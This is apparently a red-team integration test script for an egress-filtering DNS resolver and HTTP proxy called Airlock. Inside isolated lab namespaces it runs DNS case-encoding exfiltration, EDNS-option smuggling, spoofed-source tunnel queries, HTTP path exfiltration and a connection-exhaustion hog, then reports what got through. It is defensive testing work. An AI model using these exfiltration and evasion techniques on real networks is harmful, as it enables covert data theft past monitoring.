#!/usr/bin/env bash
# Issue #11's attacks against a build, as root inside sandboxes made by Deploy/sandbox.sh: what
# reaches the upstream resolver, the web server or the other sandbox. Prints one table of figures.
#
#   Tests/Integration/red-team.sh [AIRLOCK_BINARY]            (root; SANDBOX_SH=... for another sandbox.sh)
#
# Run it against an older build and its sandbox.sh to get the "before" column:
#   git archive fcbe4c7 | tar -x -C /tmp/old && (cd /tmp/old && swift build --product airlock)
#   SANDBOX_SH=/tmp/old/Deploy/sandbox.sh Tests/Integration/red-team.sh /tmp/old/.build/debug/airlock
#
# Namespaces on 198.18.0.0/15 only (nothing is routed off the machine):
#   sb1 198.18.1.2 (the attacker, root inside), sb2 198.18.2.2 (another sandbox),
#   airlock 198.18.1.1 / 198.18.2.1 (DNS :53, proxy :3128), internet-side 198.18.100.1 (metrics :9464)
#   internet 198.18.100.53 an attacker's authoritative DNS (TTL 0, records every query),
#            198.18.100.10:80 a web server recording every request
# Exit: 0 ran (the figures are the result), 77 skipped (not root or tools missing), 1 lab failure.
set -uo pipefail

ROOT=$(cd "$(dirname "$0")/../.." && pwd)
AIRLOCK=${1:-${AIRLOCK:-$ROOT/.build/debug/airlock}}
SANDBOX_SH=${SANDBOX_SH:-$ROOT/Deploy/sandbox.sh}
PY=/usr/bin/python3
RT="$ROOT/Tests/Integration/red-team.py"

if [[ $(id -u) -ne 0 ]]; then echo "SKIP: needs root (network namespaces, nftables)"; exit 77; fi
for tool in ip nft $PY; do command -v "$tool" >/dev/null || { echo "SKIP: missing $tool"; exit 77; }; done
[[ -x $AIRLOCK ]] || { echo "SKIP: no $AIRLOCK"; exit 77; }

tag=$(printf '%05d' $(($$ % 100000)))
NS_AIR="rt-air-$tag"
NS_NET="rt-net-$tag"
SB1="rtsa$tag"
SB2="rtsb$tag"
LAB=$(mktemp -d /tmp/airlock-redteam.XXXXXX)
chmod 755 "$LAB"
PIDS=()
cleanup() {
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  sleep 0.3
  for pid in "${PIDS[@]}"; do kill -9 "$pid" 2>/dev/null; wait "$pid" 2>/dev/null; done
  "$SANDBOX_SH" down --name "$SB1" --host-ns "$NS_AIR" >/dev/null 2>&1
  "$SANDBOX_SH" down --name "$SB2" --host-ns "$NS_AIR" >/dev/null 2>&1
  ip netns delete "$NS_NET" 2>/dev/null
  ip netns delete "$NS_AIR" 2>/dev/null
  [[ -n ${KEEP_LAB:-} ]] || rm -rf "$LAB"
}
trap cleanup EXIT
air() { ip netns exec "$NS_AIR" "$@"; }
net() { ip netns exec "$NS_NET" "$@"; }
sb1() { ip netns exec "$SB1" "$@"; }
sb2() { ip netns exec "$SB2" "$@"; }

cat >"$LAB/policy.yaml" <<'POLICY'
version: 1
mode: enforce
dns:
  default: allow
  upstreams: ["198.18.100.53"]
  rebinding:
    allow_private_answers_for: [.test]
http:
  default: deny
  allow:
    - {host: api.allowed.test, ports: [80]}
    - self.ownhost.test
  allow_private_destinations: [198.18.100.0/24]
sandboxes:
  - {name: sb1, match: [198.18.1.0/24]}
  - {name: sb2, match: [198.18.2.0/24]}
POLICY
cat >"$LAB/alerts.yaml" <<ALERTS
alerts:
  file: {path: "$LAB/alerts.jsonl"}
  metrics: {listen: "0.0.0.0:9464"}
ALERTS

ip netns add "$NS_AIR"
ip netns add "$NS_NET"
air ip link set lo up
net ip link set lo up
air ip link add "rtup$tag" type veth peer name eth0 netns "$NS_NET"
air ip addr add 198.18.100.1/24 dev "rtup$tag"
air ip link set "rtup$tag" up
for a in 10 53; do net ip addr add "198.18.100.$a/24" dev eth0; done
net ip link set eth0 up
net ip route add default via 198.18.100.1
air sysctl -qw net.ipv4.ip_forward=1
"$SANDBOX_SH" up --name "$SB1" --host-ns "$NS_AIR" --sandbox-addr 198.18.1.2/24 --host-addr 198.18.1.1 \
  --dns-port 53 --proxy-ports 3128 >/dev/null || { echo "sandbox.sh up failed"; exit 1; }
"$SANDBOX_SH" up --name "$SB2" --host-ns "$NS_AIR" --sandbox-addr 198.18.2.2/24 --host-addr 198.18.2.1 \
  --dns-port 53 --proxy-ports 3128 >/dev/null || { echo "sandbox.sh up failed"; exit 1; }

net $PY "$RT" dns-upstream 198.18.100.53 "$LAB/upstream.log" >"$LAB/upstream.out" 2>&1 &
PIDS+=($!)
net $PY "$RT" web 198.18.100.10 80 "$LAB/web.log" >"$LAB/web.out" 2>&1 &
PIDS+=($!)
air "$AIRLOCK" serve --policy "$LAB/policy.yaml" --listen 198.18.1.1:53 --listen 198.18.2.1:53 --threads 1 \
  --log "$LAB/dns.jsonl" --alerts "$LAB/alerts.yaml" --http-listen 198.18.1.1:3128 --http-listen 198.18.2.1:3128 \
  --http-threads 1 --http-log "$LAB/http.jsonl" >"$LAB/airlock.out" 2>"$LAB/airlock.err" &
AIRLOCK_PID=$!
PIDS+=($AIRLOCK_PID)
for _ in $(seq 1 100); do
  air bash -c "exec 3<>/dev/tcp/198.18.1.1/3128" 2>/dev/null && [[ -s $LAB/upstream.out || -e $LAB/upstream.out ]] && break
  sleep 0.1
done
sleep 0.5

ROWS=()
row() { ROWS+=("| $1 | $2 | $3 |"); }
upstream_names() { cut -d' ' -f2 "$LAB/upstream.log" 2>/dev/null | $PY -c '
import sys
sys.path.insert(0, sys.argv[1])
for line in sys.stdin:
    m = bytes.fromhex(line.strip())
    labels, i = [], 12
    while i < len(m) and m[i] != 0:
        labels.append(m[i + 1:i + 1 + m[i]].decode("latin-1")); i += m[i] + 1
    print(".".join(labels))' "$ROOT"; }
json() { $PY -c "import json,sys; d=json.loads(sys.stdin.readlines()[-1]); print(eval(sys.argv[1], {}, d))" "$1"; }

# ---------------------------------------------------------------- finding 1: data in letter case
out=$(sb1 $PY "$RT" case 198.18.1.1 300)
sleep 0.5
casings=$(upstream_names | grep -ci '^ttl0\.casedata\.test$')
distinct=$(upstream_names | grep -i '^ttl0\.casedata\.test$' | sort -u | wc -l)
row "1. case: 300 case patterns of ttl0.casedata.test (TTL 0)" \
  "answered $(json answered <<<"$out")/300; upstream got $casings queries in $distinct distinct casings" ""
CASE_SENT="$LAB/case-sent.txt" sb1 env CASE_SENT="$LAB/case-sent.txt" $PY "$RT" case-data 198.18.1.1 8000 >"$LAB/case-data.out"
sleep 1
recovered=$(upstream_names | grep -i 'casebits\.test$' | $PY -c '
import sys
sent = set(open(sys.argv[1]).read().split())
got = [l.strip() for l in sys.stdin]
exact = sum(1 for g in set(got) if g in sent and g != g.lower())
print(f"{len(got)} queries reached the upstream, {exact} with the client case pattern: {exact * 34 // 8} of 8000 bytes readable there")' "$LAB/case-sent.txt")
verdicts=$(grep -i 'casebits' "$LAB/dns.jsonl" | grep -c '"verdict":{' || true)
row "1. case: 8,000 random bytes in the case of 1,883 names" \
  "$($PY -c 'import json,sys; d=json.load(open(sys.argv[1])); print("sent in %s s, %s answered" % (d["seconds"], d["answered"]))' "$LAB/case-data.out"); $recovered; $verdicts decisions with a verdict" ""

# ---------------------------------------------------------------- finding 2: bytes beyond the question
out=$(sb1 $PY "$RT" options 198.18.1.1)
sleep 0.5
declare -A case_of=([opt3000]=unknown_option_3000 [padding]=padding_with_data [cookie]=cookie
  [answerrr]=record_in_answer [trailing]=trailing_40 [tcp8000]=tcp_option_8000)
for label in opt3000 padding cookie answerrr trailing tcp8000; do
  got=$(cut -d' ' -f2 "$LAB/upstream.log" | $PY -c '
import sys
label = sys.argv[1]
sizes = []
for line in sys.stdin:
    m = bytes.fromhex(line.strip())
    if m[13:13 + len(label)].lower() == label.encode():
        sizes.append(len(m))
print(",".join(map(str, sizes)) or "nothing")' "$label")
  sent=$($PY -c "import json,sys; d=json.loads(sys.argv[1])[sys.argv[2]]; print(d['sent'], d['rcode'])" "$out" "${case_of[$label]}" 2>/dev/null)
  row "2. beyond the question: ${case_of[$label]}" "client sent ${sent%% *} bytes (answer rcode ${sent##* }); upstream received: $got bytes" ""
done
logged=$(grep 'optdata\.test' "$LAB/dns.jsonl" | $PY -c '
import json, sys
out = []
for line in sys.stdin:
    d = json.loads(line)
    s = d.get("stripped") or {}
    if d.get("action") == "formerr" or s.get("edns_options") or s.get("trailing_bytes"):
        out.append("%s: %s" % (d["name"].split(".")[0], d["action"] if d.get("action") == "formerr"
                   else "options %s (%s bytes), trailing %s" % (s.get("edns_options"), s.get("edns_option_bytes"), s.get("trailing_bytes"))))
print("; ".join(out) or "nothing")')
row "2. logged" "$logged" ""

# ---------------------------------------------------------------- finding 3: spoofed sources
sources=()
for i in $(seq 1 67); do
  a="10.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))"
  sources+=("$a")
  sb1 ip addr add "$a/32" dev eth0 2>/dev/null
done
out=$(sb1 $PY "$RT" spoof 198.18.1.1 67 "${sources[@]}")
sleep 0.5
reached=$(upstream_names | grep -c 'spoofed\.test$' || true)
logged=$(grep -c 'spoofed\.test' "$LAB/dns.jsonl" || true)
verdict=$(grep 'spoofed\.test' "$LAB/dns.jsonl" | grep -c '"verdict":{' || true)
dropped=$(air nft list counter inet "airlock_${SB1//-/_}" dropped_spoofed 2>/dev/null | sed -n 's/.*packets \([0-9]*\).*/\1/p')
row "3. spoofed: 67 tunnel queries (50-byte base32 labels), each from another 10.x source" \
  "answered $(json answered <<<"$out")/67; upstream got $reached; Airlock logged $logged ($verdict with a verdict); nft dropped_spoofed ${dropped:-absent}" ""

# ---------------------------------------------------------------- HTTP information budget
out=$(sb1 $PY "$RT" syllables 198.18.1.1:3128 2000 http://api.allowed.test/w/)
webdata=$(grep -c '"GET /w/' "$LAB/web.log" 2>/dev/null || true)
row "HTTP: up to 2,000 requests, 30 bytes of data as syllables in each path" \
  "$(json '"%s bytes accepted in %s s, first refusal at request %s (%s)" % (data_bytes_sent_ok, seconds, refused_at, rule)' <<<"$out"); web server saw $webdata such requests = $((webdata * 30)) bytes of data" ""

# ---------------------------------------------------------------- own host
code=$(sb1 curl -s -m 5 -x http://198.18.1.1:3128 -o "$LAB/own.out" -w '%{http_code}' http://self.ownhost.test:9464/metrics)
row "Own host: self.ownhost.test:9464 (198.18.100.1, Airlock's internet-side address)" \
  "HTTP $code, $(grep -c '^airlock_' "$LAB/own.out" || true) lines of Airlock's metrics; $(grep -o '"rule":"http.own_host"' "$LAB/http.jsonl" | head -1)" ""

# ---------------------------------------------------------------- finding 4: one client holding 10,000 connections
before=$(sb2 $PY "$RT" requests 198.18.2.1:3128 20 http://api.allowed.test/ok)
sb1 $PY "$RT" hog 198.18.1.1:3128 10000 20 >"$LAB/hog.out" 2>&1 &
HOG=$!
PIDS+=($HOG)
for _ in $(seq 1 900); do [[ -s $LAB/hog.out ]] && break; sleep 0.1; done
during=$(sb2 $PY "$RT" requests 198.18.2.1:3128 20 http://api.allowed.test/ok)
wait $HOG 2>/dev/null
limited=$(grep -c '"rule":"http.client_connections"' "$LAB/http.jsonl" || true)
row "4. sandbox 1 holds 10,000 idle proxy connections; sandbox 2 makes 20 requests" \
  "before the hog $(json served <<<"$before")/20 served; during $(json served <<<"$during")/20; hog $(tail -1 "$LAB/hog.out"); $limited http.client_connections records" ""

# ---------------------------------------------------------------- alerts and the log agree
sb1 $PY -c "
import sys; sys.path.insert(0, '$ROOT/Tests/Integration')
import importlib.util
spec = importlib.util.spec_from_file_location('rt', '$RT'); rt = importlib.util.module_from_spec(spec); spec.loader.exec_module(rt)
rt.exchange('198.18.1.1', [rt.query('mzxw6ytboi2dmnzuhe3tqojqgeztqmzrgiydsnbvgy4tonjxk5qq.mzxw6ytboi2dmnzuhe3tqojq.single.test', 0x4444, qtype=16)])"
sleep 1
kill -TERM "$AIRLOCK_PID" 2>/dev/null
for _ in $(seq 1 50); do kill -0 "$AIRLOCK_PID" 2>/dev/null || break; sleep 0.1; done
marked=$(grep '"alert":true' "$LAB/dns.jsonl" | grep -c 'single\.test' || true)
alerted=$(grep -c 'single\.test' "$LAB/alerts.jsonl" 2>/dev/null || true)
row "Alerts: one payload-sized name (a suspicious-name verdict)" "DNS log alert:true $marked; alert records naming it $alerted" ""

{
  echo
  echo "Red-team figures: $AIRLOCK with $SANDBOX_SH ($(date -u +%Y-%m-%dT%H:%M:%SZ))"
  echo
  echo "| attack | what got through | |"
  echo "|---|---|---|"
  printf '%s\n' "${ROWS[@]}"
} | tee "$LAB/figures.md"
[[ -n ${FIGURES_OUT:-} ]] && cp "$LAB/figures.md" "$FIGURES_OUT"
exit 0
